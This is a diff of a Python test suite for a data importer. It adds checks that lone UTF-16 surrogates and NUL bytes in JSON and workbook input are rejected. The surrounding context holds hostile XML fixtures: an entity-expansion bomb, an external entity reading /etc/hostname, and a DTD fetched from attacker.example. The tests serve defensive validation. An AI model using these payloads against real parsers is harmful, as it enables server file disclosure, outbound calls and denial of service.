@@ -44,6 +44,7 @@ def many_parts() -> bytes:
     return workbook(**{f"xl__extra{number}.bin": b"x" for number in range(250)})
 
 
+HALF = '<row r="2"><c r="A2" t="inlineStr"><is><t>_xD800_</t></is></c></row>'
 BOMB = "<!DOCTYPE a [<!ENTITY a 'ha'>" + "".join(f"<!ENTITY a{n} '{'&a;' * 10}'>" for n in range(9)) + "]>"
 OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
 REMOTE = '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">'
@@ -81,6 +82,9 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
     "an open quotation": (lambda: b'key,name\nXA,"' + b"x\n" * 9000, "quotation|too long"),
     "a NUL byte": (lambda: b"key,name\nXA,a\x00b\n", "Line 2 holds a NUL"),
     "UTF-16 without its mark": (lambda: "key,name\nXA,a\n".encode("utf-16-le"), "NUL"),
+    "half a letter in JSON": (lambda: b'{"persons": [{"id": "\\ud800"}]}', "half a letter"),
+    "half a letter in a workbook": (lambda: sheet(HALF), "half a letter"),
+    "a NUL in a workbook": (lambda: sheet(HALF.replace("D800", "0000")), "NUL"),
     "UTF-32": (lambda: "key,name\n".encode("utf-32"), "UTF-8"),
     "half a UTF-16 letter": (lambda: "key\nXA".encode("utf-16") + b"x", "not UTF-8"),
     "Windows-1252 unsaid": (lambda: "key,name\nXA,José\n".encode("cp1252"), "Line 2 is not UTF-8"),
